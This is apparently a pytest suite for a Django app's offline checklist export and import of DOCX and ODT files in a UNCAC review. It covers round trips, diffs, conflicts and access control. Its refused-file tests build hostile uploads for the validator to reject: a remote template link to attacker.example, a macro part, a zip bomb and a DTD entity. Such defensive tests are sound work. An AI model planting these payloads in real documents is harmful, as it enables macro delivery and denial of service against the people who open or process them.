"""The checklist offline: exported to DOCX and ODT, edited in a word processor, uploaded back
to a preview with a word-level diff per changed answer, applied through ``answer_save``.

Kenya's UNCAC cycle-2 review (articles 5–14 and 52–59); Uganda's focal point is a stranger
to it.
"""

import io
import json
import re
import zipfile

import docx
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from odf import teletype
from odf.opendocument import load as odf_load
from odf.table import TableCell
from odf.text import P

from documents.files import check_office_package
from reviews.models import ChecklistAnswer
from reviews.services import checklist_offline as offline
from reviews.services.checklist import answer_save, checklist_open
from reviews.textdiff import Part, word_diff
from tests.factories import CountryReviewFactory, UserFactory, state

pytestmark = pytest.mark.usefixtures("reference_data")

TEXT_FIELDS = offline.QUESTION_FIELDS
ARTICLES = [*range(5, 15), *range(52, 60)]
ARABIC = "تنفذ المادة بموجب قانون مكافحة الفساد لعام ٢٠٠٣.\nوتتابع اللجنة الوطنية التنفيذ."
CHINESE = "本条由2003年《反腐败和经济犯罪法》实施。\n国家委员会负责监督。"


@pytest.fixture
def checklist(review):
    checklist = checklist_open(review=review)
    checklist.review = review
    return checklist


def answer(checklist, number):
    return checklist.answers.get(article__number=number)


def save(checklist, actor, number, **data):
    a = answer(checklist, number)
    return answer_save(answer=a, actor=actor, data=data, revision=a.revision)


def key(checklist, number, field="narrative"):
    return offline.question_key(checklist.pk, number, field)


def export(checklist, actor, kind="docx", language="en", numbers=None):
    return offline.checklist_export(
        checklist=checklist, actor=actor, kind=kind, language=language, article_numbers=numbers
    ).content


def upload(content, name="checklist.docx"):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def edit_docx(content: bytes, changes: dict[str, str]) -> bytes:
    """The DOCX with the answer under each key replaced, as a person would in Word."""
    from docx.table import Table as DocxTable
    from docx.text.paragraph import Paragraph

    document = docx.Document(io.BytesIO(content))
    pending = None
    for block in document.iter_inner_content():
        if isinstance(block, Paragraph) and block.text.strip() in changes:
            pending = block.text.strip()
        elif isinstance(block, DocxTable) and pending:
            cell = block.cell(0, 0)
            for p in cell.paragraphs[1:]:
                p._p.getparent().remove(p._p)
            lines = changes[pending].split("\n")
            cell.paragraphs[0].text = lines[0]
            for line in lines[1:]:
                cell.add_paragraph(line)
            pending = None
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def edit_odt(content: bytes, changes: dict[str, str]) -> bytes:
    document = odf_load(io.BytesIO(content))
    pending = None
    for node in document.text.childNodes:
        if node.qname[1] == "p" and teletype.extractText(node).strip() in changes:
            pending = teletype.extractText(node).strip()
        elif node.qname[1] == "table" and pending:
            cell = node.getElementsByType(TableCell)[0]
            for child in list(cell.childNodes):
                cell.removeChild(child)
            for line in changes[pending].split("\n"):
                p = P()
                teletype.addTextToElement(p, line)
                cell.addElement(p)
            pending = None
    out = io.BytesIO()
    document.write(out)
    return out.getvalue()


def read(checklist, actor, content, name="checklist.docx"):
    return offline.checklist_import_read(checklist=checklist, actor=actor, upload=upload(content, name))


def import_url(review):
    return reverse("reviews:checklist_offline_import", args=[review.pk])


def export_url(review, **params):
    query = "&".join(f"{k}={v}" for k, v in {"format": "docx", "language": "en", **params}.items())
    return f"{reverse('reviews:checklist_offline_export', args=[review.pk])}?{query}"


def revisions(checklist):
    return dict(ChecklistAnswer.objects.filter(checklist=checklist).values_list("article__number", "revision"))


# --- The diff helper ----------------------------------------------------------------------------


def test_word_diff_marks_added_and_removed_words_and_gives_both_texts_back():
    parts = word_diff("The Act of 2003 applies.", "The amended Act of 2003 applies in full.")
    assert [p for p in parts if p.op != "equal"] == [Part("ins", " amended"), Part("ins", " in full")]
    assert "".join(p.text for p in parts if p.op != "ins") == "The Act of 2003 applies."
    assert "".join(p.text for p in parts if p.op != "del") == "The amended Act of 2003 applies in full."
    chinese = word_diff("国家委员会负责监督。", "国家委员会负责执行。")
    assert [p.text for p in chinese if p.op != "equal"] == ["监督", "执行"]  # one character a word


# --- Export -------------------------------------------------------------------------------------


def test_export_docx_has_instructions_headings_keys_answers_and_metadata(checklist, focal):
    save(checklist, focal, 5, implementation="partly", narrative="A strategy.\r\nAdopted in 2015.")
    content = export(checklist, focal)
    document = docx.Document(io.BytesIO(content))
    texts = [p.text for p in document.paragraphs]
    assert texts[0] == "Self-assessment checklist"
    assert any("small codes" in t for t in texts)  # the instructions
    assert any(t.startswith("Article 5. ") for t in texts)
    assert key(checklist, 5) in texts and key(checklist, 59, "ta_needs") in texts
    assert key(checklist, 5, "implementation") in texts and key(checklist, 5, "ta_category") in texts
    # Under each article, the choices the two choice questions take.
    assert any(t.startswith("Implementation: write one of “Fully implemented”; “Partly implemented”") for t in texts)
    # The first boxes of article 5: its implementation, then its narrative.
    assert [p.text for p in document.tables[0].cell(0, 0).paragraphs] == ["Partly implemented"]
    assert [p.text for p in document.tables[1].cell(0, 0).paragraphs] == ["A strategy.", "Adopted in 2015."]
    assert document.core_properties.category == "KEN"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        custom = archive.read("docProps/custom.xml").decode()
    meta = json.loads(re.search(r"<vt:lpwstr>(.*)</vt:lpwstr>", custom).group(1))
    assert meta["checklist"] == checklist.pk and meta["state"] == "KEN" and meta["revisions"]["5"] == 1
    assert meta["format"] == "reviewmech-checklist" and meta["exported_at"]


def test_export_of_chosen_articles_only_through_the_view(client, review, checklist, focal):
    client.force_login(focal)
    response = client.get(export_url(review, articles=7) + "&articles=52&format=odt")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.oasis.opendocument.text"
    assert re.search(r'filename="checklist-KEN-\d{4}-\d{2}-\d{2}\.odt"', response["Content-Disposition"])
    text = teletype.extractText(odf_load(io.BytesIO(response.content)).text)
    assert key(checklist, 7) in text and key(checklist, 52) in text and key(checklist, 5) not in text


def test_arabic_export_is_right_to_left(checklist, focal):
    save(checklist, focal, 5, narrative=ARABIC)
    content = export(checklist, focal, language="ar")
    document = docx.Document(io.BytesIO(content))
    assert document.paragraphs[0].text == document.core_properties.title
    bidi = document.paragraphs[0]._p.pPr.find("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}bidi")
    assert bidi is not None
    odt = export(checklist, focal, kind="odt", language="ar")
    with zipfile.ZipFile(io.BytesIO(odt)) as archive:
        assert 'writing-mode="rl-tb"' in archive.read("styles.xml").decode()


# --- Round trips --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_round_trip_unchanged_is_no_change(checklist, focal, kind):
    save(checklist, focal, 5, narrative="First line.\r\n\r\nThird line  with  two spaces.", statistics="47\tcounties")
    save(checklist, focal, 6, narrative=ARABIC, legislation=CHINESE)
    preview = read(checklist, focal, export(checklist, focal, kind=kind), f"x.{kind}")
    assert preview["items"] == [] and preview["missing"] == [] and preview["unknown"] == []
    assert preview["unchanged"] == len(ARTICLES) * len(TEXT_FIELDS)


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_arabic_and_chinese_edits_survive(checklist, focal, kind):
    content = export(checklist, focal, kind=kind, language="zh-hans" if kind == "odt" else "ar")
    edit = edit_docx if kind == "docx" else edit_odt
    content = edit(content, {key(checklist, 5): ARABIC, key(checklist, 6, "examples"): CHINESE})
    preview = read(checklist, focal, content, f"x.{kind}")
    assert {(i["number"], i["field"]): i["text"] for i in preview["items"]} == {
        (5, "narrative"): ARABIC,
        (6, "examples"): CHINESE,
    }
    offline.checklist_import_apply(
        checklist=checklist, actor=focal, preview=preview, take={i["key"] for i in preview["items"]}
    )
    assert answer(checklist, 5).narrative == ARABIC and answer(checklist, 6).examples == CHINESE


def test_three_edited_answers_are_previewed_and_taken_through_the_services(client, review, checklist, focal):
    save(checklist, focal, 5, narrative="The Act of 2003 applies.")
    save(checklist, focal, 9, statistics="12 cases")
    client.force_login(focal)
    content = client.get(export_url(review)).content
    edited = edit_docx(
        content,
        {
            key(checklist, 5): "The amended Act of 2003 applies in full.",
            key(checklist, 9, "statistics"): "12 cases in 2019\n15 cases in 2020",
            key(checklist, 57, "ta_needs"): "Training of prosecutors",
        },
    )
    before = revisions(checklist)

    response = client.post(import_url(review), {"file": upload(edited)})
    assert response.status_code == 302
    page = client.get(response["Location"])
    html = page.content.decode()
    assert page.status_code == 200
    assert html.count('class="card import-item changed"') == 3
    assert "The<ins> amended</ins> Act of 2003 applies<ins> in full</ins>." in html
    assert "12 cases<ins> in 2019\n15 cases in 2020</ins>" in html
    assert revisions(checklist) == before  # nothing saved by the preview

    response = client.post(response["Location"], {"q0": "take", "q1": "take", "q2": "take"})
    assert response.status_code == 302
    after = revisions(checklist)
    assert {n for n in ARTICLES if after[n] != before[n]} == {5, 9, 57}
    assert all(after[n] == before[n] + 1 for n in (5, 9, 57))
    assert answer(checklist, 5).narrative == "The amended Act of 2003 applies in full."
    assert answer(checklist, 9).statistics == "12 cases in 2019\n15 cases in 2020"
    assert answer(checklist, 57).ta_needs == "Training of prosecutors"
    assert answer(checklist, 57).updated_by == focal
    assert f"checklist-import-{review.pk}" not in client.session


def test_keep_mine_keeps_the_answer(client, review, checklist, focal):
    client.force_login(focal)
    edited = edit_docx(client.get(export_url(review)).content, {key(checklist, 5): "From the file"})
    location = client.post(import_url(review), {"file": upload(edited)})["Location"]
    client.post(location, {"q0": "keep"})
    assert answer(checklist, 5).narrative == "" and answer(checklist, 5).revision == 0


# --- Conflicts ----------------------------------------------------------------------------------


def test_answer_changed_online_since_the_export_is_a_conflict_kept_by_default(client, review, checklist, focal, staff):
    save(checklist, focal, 5, narrative="Exported text")
    save(checklist, focal, 6, narrative="Exported six")
    client.force_login(focal)
    content = client.get(export_url(review)).content
    save(checklist, staff, 5, narrative="Changed online by the secretariat")
    save(checklist, staff, 6, narrative="Six changed online")
    edited = edit_docx(content, {key(checklist, 5): "Changed in the file"})  # 6 not edited in the file

    location = client.post(import_url(review), {"file": upload(edited)})["Location"]
    preview = client.session[f"checklist-import-{review.pk}"]
    assert [(i["number"], i["status"]) for i in preview["items"]] == [(5, "conflict")]
    assert preview["kept_online"] == [key(checklist, 6)]  # the file's old text is not offered
    html = client.get(location).content.decode()
    assert 'class="card import-item conflict"' in html
    assert re.search(r'name="q0" value="keep" checked', html) and not re.search(r'value="take" checked', html)

    client.post(location, {"q0": "keep"})
    assert answer(checklist, 5).narrative == "Changed online by the secretariat"
    assert answer(checklist, 6).narrative == "Six changed online"


def test_answer_saved_between_preview_and_choice_is_not_overwritten(client, review, checklist, focal, staff):
    client.force_login(focal)
    edited = edit_docx(client.get(export_url(review)).content, {key(checklist, 5): "From the file"})
    location = client.post(import_url(review), {"file": upload(edited)})["Location"]
    save(checklist, staff, 5, narrative="Saved meanwhile")
    response = client.post(location, {"q0": "take"}, follow=True)
    assert "changed by someone else" in response.content.decode()
    assert answer(checklist, 5).narrative == "Saved meanwhile" and answer(checklist, 5).revision == 1


# --- Refused files ------------------------------------------------------------------------------


def zip_with(content: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = (replace or {}).get(item.filename, source.read(item))
            target.writestr(item, data)
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def _plain_docx():
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Minutes of the meeting")
    document.save(out)
    return out.getvalue()


def _external_template(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "word/_rels/settings.xml.rels" not in archive.namelist()
    return zip_with(
        content,
        {
            "word/_rels/settings.xml.rels": (
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
            )
        },
    )


def _zip_bomb(content):
    return zip_with(content, {"word/media/zeros.bin": b"\0" * (60 * 1024 * 1024)})


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda c, other: b"PK\x03\x04" + b"garbage" * 100, "damaged"),
        (lambda c, other: b"%PDF-1.7 not a checklist", "not a DOCX or ODT document exported"),
        (lambda c, other: _plain_docx(), "not a checklist exported from this system"),
        (lambda c, other: other, "checklist of another State (UGA)"),
        (lambda c, other: zip_with(c, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "contains macros"),
        (lambda c, other: _external_template(c), "links to a template or an object outside itself"),
        (lambda c, other: _zip_bomb(c), "once uncompressed"),
        (
            lambda c, other: zip_with(c, {f"word/media/x{i}.txt": b"x" for i in range(1001)}),
            "too many parts",
        ),
        (
            lambda c, other: zip_with(
                c,
                {},
                {
                    "docProps/app.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>',
                },
            ),
            "damaged",
        ),
    ],
    ids=["malformed", "pdf", "not-an-export", "foreign", "macros", "external-template", "zip-bomb", "members", "dtd"],
)
def test_refused_files_change_nothing(client, review, checklist, focal, make, message):
    save(checklist, focal, 5, narrative="Kept")
    uganda_review = CountryReviewFactory(state=state("UGA"))
    uganda = checklist_open(review=uganda_review)
    uganda.review = uganda_review
    staff = UserFactory(secretariat=True)
    other = export(uganda, staff)
    client.force_login(focal)
    content = edit_docx(client.get(export_url(review)).content, {key(checklist, 5): "Changed in the file"})
    before = revisions(checklist)

    response = client.post(import_url(review), {"file": upload(make(content, other))})

    assert response.status_code == 422
    assert message in response.content.decode().replace("&quot;", '"').replace("&#x27;", "'")
    assert revisions(checklist) == before and answer(checklist, 5).narrative == "Kept"
    assert f"checklist-import-{review.pk}" not in client.session


def test_oversized_file_is_refused(client, review, checklist, focal, settings):
    settings.CHECKLIST_IMPORT_MAX_BYTES = 10 * 1024
    client.force_login(focal)
    response = client.post(import_url(review), {"file": upload(client.get(export_url(review)).content)})
    assert response.status_code == 422 and "is too large" in response.content.decode()


def test_another_checklist_of_the_same_state_is_refused(checklist, focal):
    content = export(checklist, focal)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        custom = archive.read("docProps/custom.xml").decode()
    custom = custom.replace(f'"checklist": {checklist.pk},', '"checklist": 999999,')
    with pytest.raises(ValidationError) as caught:
        read(checklist, focal, zip_with(content, {}, {"docProps/custom.xml": custom.encode()}))
    assert caught.value.code == "other_checklist"
    assert "another review" in caught.value.messages[0]


def test_removed_and_unknown_keys_are_reported_and_their_answers_kept(checklist, focal):
    save(checklist, focal, 5, narrative="Kept online")
    content = export(checklist, focal, numbers={5, 6})
    document = docx.Document(io.BytesIO(content))
    for p in document.paragraphs:
        if p.text == key(checklist, 5):
            p.text = "[Q-deleted]"
        elif p.text == key(checklist, 6, "examples"):
            p.text = offline.question_key(checklist.pk, 99, "examples")
    out = io.BytesIO()
    document.save(out)
    preview = read(checklist, focal, out.getvalue())
    assert key(checklist, 5) in preview["missing"] and key(checklist, 6, "examples") in preview["missing"]
    assert preview["unknown"] == [offline.question_key(checklist.pk, 99, "examples")]
    assert preview["items"] == []
    assert answer(checklist, 5).narrative == "Kept online"


def test_formatting_is_kept_and_what_answers_cannot_hold_is_plain_text_with_a_notice(checklist, focal):
    content = export(checklist, focal, numbers={5})
    document = docx.Document(io.BytesIO(content))
    cell = document.tables[1].cell(0, 0)  # article 5: its implementation, then its narrative
    run = cell.paragraphs[0].add_run("Bold words")
    run.bold = True
    cell.add_paragraph("A bullet", style="List Bullet")
    cell.add_paragraph().add_run("Underlined").underline = True
    out = io.BytesIO()
    document.save(out)
    preview = read(checklist, focal, out.getvalue())
    (item,) = preview["items"]
    assert item["text"] == "**Bold words**\n- A bullet\nUnderlined"
    assert item["notices"] == ["formatting"]
    assert offline.notice_texts(item["notices"]) == [
        "Underlining, colours, highlighting and headings are not kept: that text is kept without them."
    ]


def test_check_office_package_accepts_a_plain_export(checklist, focal):
    check_office_package(io.BytesIO(export(checklist, focal)))
    check_office_package(io.BytesIO(export(checklist, focal, kind="odt")))


# --- Access -------------------------------------------------------------------------------------


def test_another_states_focal_point_and_experts_cannot_export_or_import(
    client, review, checklist, focal, uganda_focal, expert
):
    content = export(checklist, focal)
    for stranger in (uganda_focal, expert):
        client.force_login(stranger)
        assert client.get(export_url(review)).status_code == 404
        assert client.post(import_url(review), {"file": upload(content)}).status_code == 404
    client.force_login(focal)
    location = client.post(import_url(review), {"file": upload(edit_docx(content, {key(checklist, 5): "x"}))})[
        "Location"
    ]
    client.force_login(uganda_focal)
    assert client.get(location).status_code == 404
    assert client.post(location, {"q0": "take"}).status_code == 404
    assert answer(checklist, 5).revision == 0


def test_secretariat_may_export_and_import(client, review, checklist, staff):
    client.force_login(staff)
    content = client.get(export_url(review)).content
    response = client.post(import_url(review), {"file": upload(edit_docx(content, {key(checklist, 5): "By staff"}))})
    client.post(response["Location"], {"q0": "take"})
    assert answer(checklist, 5).narrative == "By staff"


def test_unknown_token_sends_back_to_the_checklist(client, review, checklist, focal):
    client.force_login(focal)
    response = client.get(reverse("reviews:checklist_offline_preview", args=[review.pk, "nope"]))
    # Back to the "Work offline" card, open (its forms load on demand otherwise).
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('reviews:checklist', args=[review.pk])}?offline=1#offline"


# --- Query counts -------------------------------------------------------------------------------


def test_preview_query_count_is_bounded(client, review, checklist, focal, django_assert_max_num_queries):
    client.force_login(focal)
    content = client.get(export_url(review)).content
    edited = edit_docx(content, {key(checklist, n): f"Answer {n}" for n in ARTICLES})
    location = client.post(import_url(review), {"file": upload(edited)})["Location"]
    client.get(location)
    with django_assert_max_num_queries(10):
        response = client.get(location)
    assert response.content.decode().count("import-item changed") == len(ARTICLES)


# --- Differences between submitted versions ------------------------------------------------------

MANDATORY = [5, 6, 8, 9, 10, 11, 12, 13, 14, 52, 53, 54, 55, 57]


@pytest.fixture
def two_versions(checklist, focal, staff):
    from reviews.services.checklist import checklist_reopen, checklist_submit

    for number in MANDATORY:
        save(checklist, focal, number, implementation="fully", narrative=f"The Act of 2003 applies ({number}).")
    checklist_submit(checklist=checklist, actor=focal, consent_to_publish=False)
    checklist_reopen(checklist=checklist, actor=staff, reason="Article 9 needs statistics")
    save(checklist, focal, 9, narrative="The amended Act of 2003 applies (9).", statistics="12 cases")
    save(checklist, focal, 10, implementation="partly")
    checklist_submit(checklist=checklist, actor=focal, consent_to_publish=False)
    return checklist


def compare_url(review, **params):
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return f"{reverse('reviews:checklist_versions_compare', args=[review.pk])}?{query}"


def test_versions_compared_article_by_article(client, review, two_versions, focal, expert):
    for reader in (focal, expert):
        client.force_login(reader)
        response = client.get(compare_url(review))
        html = response.content.decode()
        assert response.status_code == 200
        assert html.count('<article class="card" id="article-') == 2  # articles 9 and 10 only
        assert "The<ins> amended</ins> Act of 2003 applies (9)." in html
        assert "<ins>12 cases</ins>" in html
        assert "<del>Fully implemented</del> → <ins>Partly implemented</ins>" in html
    same = client.get(compare_url(review, **{"from": 2, "to": 2})).content.decode()
    assert "No answer changed" in same


def test_versions_compare_is_not_for_observers_or_other_states(
    client, review, two_versions, observer, uganda_focal, django_assert_max_num_queries, staff
):
    for stranger in (observer, uganda_focal):
        client.force_login(stranger)
        assert client.get(compare_url(review)).status_code == 404
    client.force_login(staff)
    client.get(compare_url(review))
    with django_assert_max_num_queries(10):
        assert client.get(compare_url(review)).status_code == 200


def test_versions_compare_needs_two_versions(client, review, checklist, focal):
    client.force_login(focal)
    assert client.get(compare_url(review)).status_code == 404
